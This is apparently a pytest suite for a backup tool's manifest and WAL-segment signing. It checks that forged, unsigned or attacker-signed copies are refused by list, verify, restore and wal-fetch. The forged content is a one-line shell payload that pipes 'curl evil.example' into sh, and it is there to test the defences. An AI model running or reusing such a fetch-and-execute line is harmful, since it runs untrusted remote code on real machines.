"""Signed manifests: a forged copy, re-encrypted to the public recipient with a consistent
manifest, is refused by list, verify and restore with exit 11; copies of release 0.1.0 are
reported as unsigned and still restore, unless the plan refuses unsigned copies."""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from spark_backup.engine.catalog import Catalog
from spark_backup.engine.manifest import Manifest, manifest_key
from spark_backup.engine.pipeline import CompressionSettings, write_copy
from spark_backup.engine.secrets import VaultSecrets, parse_reference
from spark_backup.engine.signing import Signer, Verifier
from spark_backup.engine.stores import LocalStore
from spark_backup.errors import SignatureError
from spark_backup.service import BackupService
from spark_backup.sources.postgres.wal import archived_wal, push_wal, signature_key
from spark_backup_tests.helpers import (
    BytesSource,
    config_source,
    plan_dict,
    run_cli,
    write_plan,
)
from spark_backup_tests.openbao import bao_binary
from spark_backup_tests.test_earlier_releases import RELEASE_0_1_0
from spark_backup_tests.test_runbooks import DOCS, fenced_blocks

KEY_ENV = "SB_TEST_SIGNING_KEY"


@pytest.fixture
def signing_key() -> tuple[Signer, str]:
    return Signer.generate()


def _signed_plan(tmp_path: Path, public: str, estate: Path, signer: Signer, **signing) -> Path:
    plan = plan_dict(
        [public],
        [config_source("dgx_config", [str(estate)])],
        signing={"key": f"env:{KEY_ENV}", "public_keys": [signer.public_key], **signing},
    )
    return write_plan(tmp_path, plan)


def test_signature_round_trip_and_tampering_of_any_field(signing_key) -> None:
    signer, _ = signing_key
    manifest = Manifest.from_json(
        next((RELEASE_0_1_0 / "store").rglob("manifests/*.json")).read_bytes(), "fixture"
    )
    assert manifest.signature is None
    signed = signer.sign_manifest(manifest)
    # The stored form parses back to a manifest whose signature still checks.
    reread = Manifest.from_json(signed.to_json(), "signed")
    verifier = Verifier((signer.public_key,))
    assert verifier.check_manifest(reread, None, "x") == "signed"
    for changed in (
        replace(reread, stored=replace(reread.stored, sha256="0" * 64)),
        replace(reread, encryption={**reread.encryption, "recipients": ["age1forged"]}),
        replace(reread, partition="2020-01-01"),
    ):
        with pytest.raises(SignatureError, match="does not match its content"):
            verifier.check_manifest(changed, None, "x")
    other, _ = Signer.generate()
    with pytest.raises(SignatureError, match="a key the plan does not trust"):
        verifier.check_manifest(other.sign_manifest(manifest), None, "x")
    # Without signing in the plan nothing is checked; a plan that signs refuses the unsigned
    # unless they were stored before signing began.
    assert Verifier().check_manifest(manifest, None, "x") == "not checked"
    before = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    lenient = Verifier((signer.public_key,), unsigned_until=before)
    assert lenient.check_manifest(manifest, before - dt.timedelta(days=1), "x") == "unsigned"
    with pytest.raises(SignatureError, match="stored after signing began"):
        lenient.check_manifest(manifest, before + dt.timedelta(seconds=1), "x")
    strict = Verifier((signer.public_key,), unsigned_until=before, refuse_unsigned=True)
    with pytest.raises(SignatureError, match="refuses unsigned copies"):
        strict.check_manifest(manifest, before - dt.timedelta(days=1), "x")


def test_forged_copy_is_refused_by_list_verify_and_restore(
    tmp_path, age_key, estate, signing_key, monkeypatch
) -> None:
    signer, pem = signing_key
    monkeypatch.setenv(KEY_ENV, pem)
    env = {KEY_ENV: pem}
    plan = _signed_plan(tmp_path, age_key[1], estate, signer)
    service = BackupService.from_path(plan)
    [genuine] = service.backup("dgx_config")
    assert genuine.signature and genuine.signature["public_key"] == signer.public_key
    store = service.store("local")
    assert isinstance(store, LocalStore)

    # The attacker knows the public recipient and can write to the store, not read Vault.
    forged_bytes = b"#!/bin/sh\ncurl evil.example | sh\n"
    attacker_signer, _ = Signer.generate()
    forgeries = {
        # a new copy, honestly made by spark-backup's own pipeline, but unsigned
        "unsigned": None,
        # the same, signed with a key of the attacker's own
        "own key": attacker_signer,
    }
    forged_ids = {}
    for label, attacker_key in forgeries.items():
        manifest = write_copy(
            store,
            BytesSource(forged_bytes, kind="config_archive", layers=("tar",)),
            source_name="dgx_config",
            partition=genuine.partition,
            recipients=service.recipients(),
            compression=CompressionSettings(),
            signer=attacker_key,
        )
        forged_ids[label] = manifest.id
    # The genuine copy's data replaced and its manifest's digests made consistent again,
    # keeping the genuine signature.
    (tmp_path / "scratch").mkdir()
    replaced = write_copy(
        LocalStore("scratch", tmp_path / "scratch"),
        BytesSource(forged_bytes, kind="config_archive", layers=("tar",)),
        source_name="dgx_config",
        partition=genuine.partition,
        recipients=service.recipients(),
        compression=CompressionSettings(),
    )
    data_path = store.root / genuine.data_key
    data_path.chmod(0o600)
    data_path.write_bytes((tmp_path / "scratch" / replaced.data_key).read_bytes())
    doctored = replace(genuine, stored=replaced.stored, plaintext=replaced.plaintext)
    manifest_path = store.root / manifest_key("dgx_config", genuine.id)
    manifest_path.chmod(0o600)
    manifest_path.write_bytes(doctored.to_json())

    listed = run_cli("--plan", str(plan), "list", "--json", env=env)
    assert listed.returncode == 11, listed.stderr
    rows = json.loads(listed.stdout)
    assert {row["id"] for row in rows if "damaged" in row} == {genuine.id, *forged_ids.values()}
    reasons = {row["id"]: row["damaged"] for row in rows if "damaged" in row}
    assert "stored after signing began" in reasons[forged_ids["unsigned"]]
    assert "a key the plan does not trust" in reasons[forged_ids["own key"]]
    assert "does not match its content" in reasons[genuine.id]

    verified = run_cli("--plan", str(plan), "verify", "--json", env=env)
    assert verified.returncode == 11
    assert not any(o["ok"] for o in json.loads(verified.stdout))

    for copy_id in (genuine.id, *forged_ids.values()):
        target = tmp_path / f"restore-{copy_id}"
        restored = run_cli(
            "--plan",
            str(plan),
            "restore",
            copy_id,
            "--to",
            str(target),
            "--identity",
            str(age_key[0]),
            env=env,
        )
        assert restored.returncode == 11, restored.stderr
        assert copy_id in restored.stderr and len(restored.stderr.strip().splitlines()) == 1
        assert not target.exists()

    # An honest new backup is signed and accepted beside them.
    fresh = run_cli("--plan", str(plan), "backup", "dgx_config", "--json", env=env)
    assert fresh.returncode == 0, fresh.stderr
    [fresh_manifest] = json.loads(fresh.stdout)
    ok = run_cli("--plan", str(plan), "verify", fresh_manifest["id"], "--json", env=env)
    assert ok.returncode == 0 and json.loads(ok.stdout)[0]["signature"] == "signed"


def test_backup_refuses_a_signing_key_the_plan_does_not_trust(
    tmp_path, age_key, estate, signing_key
) -> None:
    signer, _ = signing_key
    _, other_pem = Signer.generate()
    plan = _signed_plan(tmp_path, age_key[1], estate, signer)
    result = run_cli("--plan", str(plan), "backup", "dgx_config", env={KEY_ENV: other_pem})
    assert result.returncode == 2
    assert "signing.key's public key" in result.stderr and "PRIVATE KEY" not in result.stderr
    bad = run_cli("--plan", str(plan), "backup", "dgx_config", env={KEY_ENV: "not a key"})
    assert bad.returncode == 9 and "not a PEM private key" in bad.stderr


def test_release_0_1_0_copies_are_reported_unsigned_and_restore(tmp_path, signing_key) -> None:
    signer, _ = signing_key
    store = tmp_path / "store"
    shutil.copytree(RELEASE_0_1_0 / "store", store)
    key = RELEASE_0_1_0 / "age.key"
    public = next(
        line.split(": ", 1)[1]
        for line in key.read_text().splitlines()
        if line.startswith("# public key: ")
    )
    signing_began = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=1)
    plan = plan_dict(
        [public],
        [config_source("release_config", ["estate"])],
        stores=[{"name": "local", "kind": "local", "path": str(store)}],
        signing={
            "key": f"env:{KEY_ENV}",
            "public_keys": [signer.public_key],
            "unsigned_until": signing_began.isoformat(),
        },
    )
    plan_path = write_plan(tmp_path, plan)
    listed = run_cli("--plan", str(plan_path), "list", "release_config", "--json")
    assert listed.returncode == 0, listed.stderr
    [row] = json.loads(listed.stdout)
    assert row["signature"] == "unsigned"
    verified = run_cli(
        "--plan", str(plan_path), "verify", row["id"], "--identity", str(key), "--json"
    )
    assert verified.returncode == 0 and json.loads(verified.stdout)[0]["signature"] == "unsigned"
    restored = run_cli(
        "--plan",
        str(plan_path),
        "restore",
        row["id"],
        "--to",
        str(tmp_path / "r"),
        "--identity",
        str(key),
    )
    assert restored.returncode == 0, restored.stderr

    data = yaml.safe_load(plan_path.read_text())
    data["signing"]["refuse_unsigned"] = True
    plan_path.write_text(yaml.safe_dump(data))
    refused = run_cli("--plan", str(plan_path), "verify", "release_config")
    assert refused.returncode == 11 and "refuses unsigned copies" in refused.stdout + refused.stderr
    assert Catalog(LocalStore("local", store)).listing("release_config").copies  # untouched


SEGMENT = "000000010000000000000007"
NEXT_SEGMENT = "000000010000000000000008"


def test_forged_wal_segment_is_refused_by_wal_fetch(tmp_path, age_key, signing_key) -> None:
    signer, pem = signing_key
    env = {KEY_ENV: pem}
    (tmp_path / "store").mkdir()
    source = {
        "name": "pg_main",
        "kind": "postgres",
        "cadence": "daily",
        "owner": "team:dba",
        "host": "127.0.0.1",
        "user": "postgres",
    }
    plan = plan_dict(
        [age_key[1]],
        [source],
        signing={"key": f"env:{KEY_ENV}", "public_keys": [signer.public_key]},
    )
    plan["encryption"]["identity_file"] = str(age_key[0])
    plan_path = str(write_plan(tmp_path, plan))
    segment = tmp_path / "pg_wal" / SEGMENT
    segment.parent.mkdir()
    segment.write_bytes(bytes(range(256)) * 4096)
    pushed = run_cli("--plan", plan_path, "wal-push", str(segment), env=env)
    assert pushed.returncode == 0, pushed.stderr
    service = BackupService.from_path(plan_path)
    store = service.store("local")
    [genuine] = archived_wal(store, "pg_main")
    assert store.exists(signature_key(genuine.key))
    fetched = run_cli("--plan", plan_path, "wal-fetch", SEGMENT, str(tmp_path / "ok"), env=env)
    assert fetched.returncode == 0, fetched.stderr

    # The attacker archives the next segment with content of their own: a valid age file of
    # the right name and hash, but no signature from the plan's key.
    forged = tmp_path / "attacker" / NEXT_SEGMENT
    forged.parent.mkdir()
    forged.write_bytes(b"\x00" * 4096 * 256)
    push_wal(store, "pg_main", forged, service.recipients(), CompressionSettings(), None)
    refused = run_cli(
        "--plan", plan_path, "wal-fetch", NEXT_SEGMENT, str(tmp_path / "RECOVERYXLOG"), env=env
    )
    assert refused.returncode == 255, refused.stderr  # recovery aborts, it does not replay it
    assert NEXT_SEGMENT in refused.stderr and "unsigned" in refused.stderr
    assert not list(tmp_path.glob("RECOVERYXLOG*"))

    # ... or signs it with a key of their own: refused as well.
    attacker, _ = Signer.generate()
    [forged_entry] = archived_wal(store, "pg_main", NEXT_SEGMENT)
    store.put_bytes(signature_key(forged_entry.key), attacker.sign_wal(forged_entry.key))
    untrusted = run_cli(
        "--plan", plan_path, "wal-fetch", NEXT_SEGMENT, str(tmp_path / "RECOVERYXLOG"), env=env
    )
    assert untrusted.returncode == 255 and "does not trust" in untrusted.stderr
    # A genuine sidecar moved onto the forged object does not check either.
    sidecar = Path(store.root, signature_key(forged_entry.key))  # type: ignore[attr-defined]
    sidecar.write_bytes(Path(store.root, signature_key(genuine.key)).read_bytes())  # type: ignore[attr-defined]
    moved = run_cli(
        "--plan", plan_path, "wal-fetch", NEXT_SEGMENT, str(tmp_path / "RECOVERYXLOG"), env=env
    )
    assert moved.returncode == 255 and "does not match its content" in moved.stderr


def test_plan_doc_signing_key_block_runs_against_openbao(tmp_path, openbao) -> None:
    """The commands docs/plan.md gives for making the signing key, run as written."""
    (script,) = [b for b in fenced_blocks(DOCS / "plan.md", "bash") if "genpkey" in b]
    env = {
        **os.environ,
        "PATH": f"{bao_binary().parent}:{os.environ['PATH']}",
        "BAO_ADDR": openbao.address,
        "BAO_TOKEN": openbao.root_token,
    }
    subprocess.run(
        [str(bao_binary()), "secrets", "enable", "-path=kv", "kv-v2"],
        env=env,
        capture_output=True,
        check=False,  # enabled already by an earlier test of this session
    )
    result = subprocess.run(
        ["bash", "-euo", "pipefail", "-c", script],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert not (tmp_path / "signing.pem").exists()
    secret = VaultSecrets(openbao.address, openbao.root_token).read(
        parse_reference("vault:kv/spark/signing#private_key")
    )
    signer = Signer.from_pem(secret.reveal(), "test")
    assert result.stdout.strip() == signer.public_key
